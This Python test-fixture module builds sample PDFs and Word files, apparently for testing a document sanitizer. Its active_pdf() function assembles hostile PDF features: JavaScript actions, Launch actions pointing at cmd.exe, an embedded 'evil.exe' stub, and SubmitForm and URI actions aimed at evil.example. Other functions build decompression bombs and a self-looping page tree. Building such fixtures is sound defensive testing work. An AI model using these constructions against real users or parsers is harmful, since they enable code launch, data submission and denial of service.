"""Files that a test makes for itself: small PDFs, Word documents, and bombs."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Mapping

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELATED = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="word/document.xml"/></Relationships>'
)


def pdf(text: str = "Hello World", *, pages: int = 1) -> Pdf:
    """A PDF that says `text` on each page."""
    made = Pdf.new()
    font = made.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for _ in range(pages):
        page = made.add_blank_page(page_size=(595, 842))
        page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
        shown = text.replace("\\", r"\\").replace("(", r"\(").replace(")", r"\)").encode("latin-1")
        page.obj.Contents = made.make_stream(b"BT /F1 24 Tf 72 720 Td (" + shown + b") Tj ET")
    return made


def saved(made: Pdf, **how: object) -> bytes:
    out = io.BytesIO()
    made.save(out, **{"static_id": True, **how})
    return out.getvalue()


def active_pdf() -> bytes:
    """A PDF with one of everything that must not survive."""
    made = pdf()
    root, page = made.Root, made.pages[0].obj

    def action(kind: str, **more: object) -> Dictionary:
        return Dictionary(Type=Name.Action, S=Name("/" + kind), **more)

    script = action("JavaScript", JS="app.alert(1)")
    root.OpenAction = script
    root.AA = Dictionary(WC=script)
    root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array(["x", script])),
        EmbeddedFiles=Dictionary(Names=Array(["evil.exe", _file(made)])),
    )
    root.Outlines = made.make_indirect(Dictionary(Type=Name.Outlines, Count=0))
    root.Metadata = made.make_stream(b"<x/>", Type=Name.Metadata, Subtype=Name.XML)
    root.AF = Array([_file(made)])
    page.AA = Dictionary(O=action("Launch", F="cmd.exe"))
    box = Array([10, 10, 60, 30])
    links = [
        action("URI", URI="https://evil.example/"),
        action("Launch", F="cmd.exe"),
        action("GoToR", F="other.pdf"),
        action("SubmitForm", F="https://evil.example/"),
        action("ImportData", F="x.fdf"),
        script,
    ]
    listed = [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=box, A=each) for each in links]
    listed.append(Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=box, FS=_file(made)))
    listed.append(Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=box))
    listed.append(Dictionary(Type=Name.Annot, Subtype=Name.Text, Rect=box, Contents="a note"))
    page.Annots = Array([made.make_indirect(each) for each in listed])
    field = made.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T="customer_name",
            TU="Customer's name",
            Ff=2,
            MaxLen=40,
            Rect=Array([72, 600, 272, 620]),
            AA=Dictionary(K=script),
        )
    )
    page.Annots.append(field)
    root.AcroForm = Dictionary(Fields=Array([field]), XFA=made.make_stream(b"<xdp/>"))
    return saved(made)


def _file(made: Pdf) -> pikepdf.Object:
    held = made.make_stream(b"MZ", Type=Name.EmbeddedFile)
    return made.make_indirect(Dictionary(Type=Name.Filespec, F="evil.exe", EF=Dictionary(F=held)))


def layered_pdf() -> bytes:
    """A page that says SHOWN, and hides SECRET on a layer that is switched off."""
    made = pdf("SHOWN")
    hidden = made.make_indirect(Dictionary(Type=Name.OCG, Name="hidden"))
    page = made.pages[0].obj
    made.Root.OCProperties = Dictionary(OCGs=Array([hidden]), D=Dictionary(OFF=Array([hidden])))
    page.Resources.Properties = Dictionary(L0=hidden)
    page.Contents = made.make_stream(
        page.Contents.read_bytes() + b"\n/OC /L0 BDC BT /F1 24 Tf 72 500 Td (SECRET) Tj ET EMC"
    )
    return saved(made)


def flate_bomb(size: int) -> bytes:
    """A small PDF whose page's content unpacks to `size` bytes."""
    made = pdf()
    engine = zlib.compressobj(9)
    packed = b"".join(engine.compress(b" " * (1 << 20)) for _ in range(size >> 20)) + engine.flush()
    stream = made.make_stream(b"")
    stream.write(packed, filter=Name.FlateDecode)
    made.pages[0].obj.Contents = stream
    return saved(made, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def object_bomb(size: int) -> bytes:
    """The same in an object stream, which a reader has to unpack to read anything at all."""
    packed = zlib.compress(b"1 0 2 20 " + b"<</Type/Catalog/Pages 2 0 R>>" + b" " * size, 9)
    parts = [b"%PDF-1.5\n"]
    at = len(parts[0])
    parts.append(
        b"3 0 obj<</Type/ObjStm/N 2/First 9/Filter/FlateDecode/Length %d>>stream\n%b\nendstream endobj\n"
        % (len(packed), packed)
    )
    table = at + len(parts[1])
    rows = b"".join(
        bytes([kind]) + where.to_bytes(4, "big") + bytes([last])
        for kind, where, last in ((0, 0, 0), (2, 3, 0), (2, 3, 1), (1, at, 0), (1, table, 0))
    )
    parts.append(
        b"4 0 obj<</Type/XRef/Size 5/W[1 4 1]/Root 1 0 R/Length %d>>stream\n%b\nendstream "
        b"endobj\nstartxref\n%d\n%%%%EOF\n" % (len(rows), rows, table)
    )
    return b"".join(parts)


def picture_pdf(width: int, height: int) -> bytes:
    """A page with a picture of so many pixels, all white."""
    made = pdf()
    image = made.make_stream(
        zlib.compress(b""),
        Type=Name.XObject,
        Subtype=Name.Image,
        Width=width,
        Height=height,
        ColorSpace=Name.DeviceGray,
        BitsPerComponent=8,
    )
    image.Filter = Name.FlateDecode
    made.pages[0].obj.Resources.XObject = Dictionary(Im0=image)
    return saved(made, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def many_pages(count: int) -> bytes:
    """A PDF that says it has `count` pages, and has."""
    made = Pdf.new()
    node = made.make_indirect(Dictionary(Type=Name.Pages, Count=count))
    page = Dictionary(Type=Name.Page, Parent=node, MediaBox=Array([0, 0, 200, 200]))
    node.Kids = Array([made.make_indirect(page) for _ in range(count)])
    made.Root.Pages = node
    return saved(made)


def looping_pages() -> bytes:
    """A page tree that holds itself."""
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Count 1/Kids[2 0 R]>>endobj\n"
        b"trailer<</Root 1 0 R/Size 3>>\nstartxref\n0\n%%EOF\n"
    )


def docx(body: str, *, links: Mapping[str, str] | None = None, **parts: str) -> bytes:
    """A Word file with this body. `parts` are further parts of word/ by name ("styles", "footnotes"…),
    `links` {relationship: address} of its text and of its foot notes."""
    out = io.BytesIO()
    led = "".join(
        f'<Relationship Id="{key}" Type="http://x/relationships/hyperlink" TargetMode="External" '
        f'Target="{address}"/>'
        for key, address in (links or {}).items()
    )
    kinds = "".join(
        f'<Relationship Id="p{at}" Type="http://x/relationships/{name}" Target="{name}.xml"/>'
        for at, name in enumerate(parts)
    )
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _TYPES)
        archive.writestr("_rels/.rels", _RELATED)
        archive.writestr(
            "word/document.xml", f'<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'
        )
        archive.writestr(
            "word/_rels/document.xml.rels", f'<Relationships xmlns="x">{kinds}{led}</Relationships>'
        )
        archive.writestr("word/_rels/footnotes.xml.rels", f'<Relationships xmlns="x">{led}</Relationships>')
        for name, text in parts.items():
            archive.writestr(f"word/{name}.xml", text if text.startswith("<") else text)
    return out.getvalue()


def zipped(**members: bytes) -> bytes:
    """An archive of these members, packed as tightly as possible ("__" in a name is a slash)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in members.items():
            archive.writestr(name.replace("__", "/"), data)
    return out.getvalue()


def p(text: str, *, style: str = "", number: tuple[int, int] | None = None, run: str = "") -> str:
    """A paragraph of Word's."""
    numbered = (
        f'<w:numPr><w:ilvl w:val="{number[1]}"/><w:numId w:val="{number[0]}"/></w:numPr>' if number else ""
    )
    styled = f'<w:pStyle w:val="{style}"/>' if style else ""
    return (
        f'<w:p><w:pPr>{styled}{numbered}</w:pPr><w:r>{run}<w:t xml:space="preserve">{text}</w:t></w:r></w:p>'
    )
